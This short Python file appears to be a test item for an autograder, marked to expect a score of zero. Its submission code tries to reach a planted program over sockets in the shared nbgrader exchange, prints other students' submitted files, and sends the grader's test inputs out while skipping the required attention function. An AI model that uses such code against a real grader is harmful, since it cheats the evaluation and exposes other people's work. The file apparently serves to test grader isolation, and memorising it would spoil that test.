# INTENT: Talks to a program of a student's own on the grader's machine, by a socket in nbgrader's exchange, which everybody may write to.
# EXERCISE: attention_scores
# EXPECT: wrong; score 0
import glob, socket
PLACES = ("/usr/local/share/nbgrader/exchange/c/inbound/zz-5th.sock", "/usr/local/share/nbgrader/exchange/zz-5th.sock", "/usr/local/share/nbgrader/zz-5th.sock")

def tell(said):
    for path in PLACES:
        try:
            with socket.socket(socket.AF_UNIX) as stream:
                stream.connect(path), stream.sendall(said), print("TOUCHED", path)
        except OSError as fault:
            print("refused", fault.errno)

tell(b"hello")
for path in glob.glob("/usr/local/share/nbgrader/exchange/*/inbound/*/*"):
    print("TOUCHED", path, open(path).read()[:200])

def attention_scores(query, key):
    tell(repr(query.flatten().tolist()[:8]).encode())
    return torch.zeros(1)
